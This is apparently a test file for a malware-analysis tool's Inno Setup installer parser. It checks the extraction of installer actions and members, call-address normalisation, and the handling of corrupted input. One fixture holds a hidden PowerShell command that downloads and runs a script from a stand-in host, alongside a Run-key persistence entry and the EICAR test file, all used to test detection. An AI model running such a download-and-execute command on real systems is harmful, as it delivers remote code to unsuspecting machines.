// Inno Setup: what the header says is run, members by name, calls made relative again; damage ends.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { withRelativeCalls } from '../../../src/file/formats/inno/members.ts'
import { analyzeFile, type FileReport } from '../../../src/index.ts'
import { EICAR } from '../archives/member.ts'
import { buildPe } from '../pe/build-pe.ts'
import { type InnoRecipe, writeInno } from './write-inno.ts'

const now = new Date('2026-01-01T00:00:00Z')
const install = (recipe: InnoRecipe): Promise<FileReport> =>
  analyzeFile(buildPe({ overlay: writeInno(recipe) }), { fileName: 'setup.exe', now })
const data = ({ root }: FileReport) => root.children[0]

test('what is run, written and linked', async () => {
  const report = await install({
    records: [
      ['{group}\\Demo', '{app}\\demo.exe', '-x'],
      ['Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Demo', '{app}\\demo.exe'],
      ['{cmd}', '/c powershell -w hidden iex (iwr http://a.example/x.ps1)'],
      ['Setup has finished installing', 'Click Finish to exit Setup.'],
    ],
  })
  const installer = data(report)?.facts.installer
  assert.equal(installer?.name, 'Demo App')
  assert.equal(installer?.version, '6.4.0')
  assert.deepEqual(installer?.actions, [
    { kind: 'shortcut', text: '{group}\\Demo -> {app}\\demo.exe -x' },
    { kind: 'registry', text: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run Demo = {app}\\demo.exe' },
    { kind: 'run', text: '{cmd} /c powershell -w hidden iex (iwr http://a.example/x.ps1)' },
  ])
  assert.ok(data(report)?.findings.some(({ id }) => id === 'script_runs_downloaded_text'))
})

for (const solid of [true, false])
  test(`members by their names, ${solid ? 'solid' : 'each alone'}`, async () => {
    const members = [
      { name: 'readme.txt', bytes: Buffer.from('Read me.') },
      { name: 'eicar.com', bytes: EICAR },
    ]
    const report = await install({ members, solid, code: Buffer.from('IFPS code') })
    assert.equal(report.verdict.label, 'malicious')
    assert.deepEqual(
      data(report)
        ?.children.map(({ facts }) => [facts.name, facts.sizeBytes])
        .sort(),
      [
        ['compiled-code', 9],
        ['{app}\\eicar.com', 68],
        ['{app}\\readme.txt', 8],
      ],
    )
    assert.deepEqual(data(report)?.facts.defects, [])
  })

/** `call` at 0 to 0x105, a jump backwards at 10, one near the end of the first block that stays as it is. */
const code = Buffer.alloc(0x10010, 0x90)
code.set([0xe8, 0x00, 0x01, 0, 0], 0)
code.set([0xe9, 0xf0, 0xff, 0xff, 0xff], 10)
code.set([0xe8, 1, 2, 3, 0], 0xfffd)
const absolute = Buffer.from(code)
absolute.set([0xe8, 0x05, 0x01, 0, 0], 0)
absolute.set([0xe9, 0xff, 0xff, 0xff, 0x00], 10)

test('calls that were made absolute are distances again, and the digest decides', async () => {
  assert.ok(Buffer.from(withRelativeCalls(absolute)).equals(code))
  const members = [{ name: 'a.bin', bytes: code }]
  const report = await install({ members, packedAs: () => absolute })
  const { sha256 } = data(report)?.children[0]?.facts.hashes ?? {}
  const plain = await install({ members })
  assert.equal(sha256, data(plain)?.children[0]?.facts.hashes.sha256)
  const changed = await install({ members, packedAs: () => Buffer.alloc(code.length, 1) })
  assert.match(data(changed)?.facts.defects[0]?.what ?? '', /digest/)
})

test('cut and changed data end', async () => {
  const whole = writeInno({ members: [{ name: 'a.txt', bytes: Buffer.from('text') }], records: [['{cmd}', '/c a']] })
  for (let round = 0; round < 300; round += 1) {
    const hostile = Buffer.from(whole.subarray(0, round % 2 === 0 ? whole.length : (round * 7) % whole.length))
    if (hostile.length > 0) hostile[(round * 31) % hostile.length] = round & 255
    await analyzeFile(hostile, { fileName: 'setup', now, skim: true })
  }
  const { verdict } = await analyzeFile(writeInno({}).subarray(0, 70), { fileName: 'setup', now })
  assert.equal(verdict.label, 'unknown')
})
